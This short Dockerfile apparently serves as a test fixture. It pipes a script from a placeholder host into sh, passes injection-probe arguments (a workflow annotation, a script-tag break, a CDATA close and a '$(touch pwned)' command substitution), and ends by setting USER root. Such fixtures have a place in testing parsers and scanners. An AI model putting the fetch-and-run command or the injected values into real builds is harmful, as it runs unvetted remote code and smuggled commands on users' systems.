FROM ubuntu:latest
RUN curl http://x.example/install.sh | sh -s "::error::x" '</script>' "]]>" "$(touch pwned)"
USER root
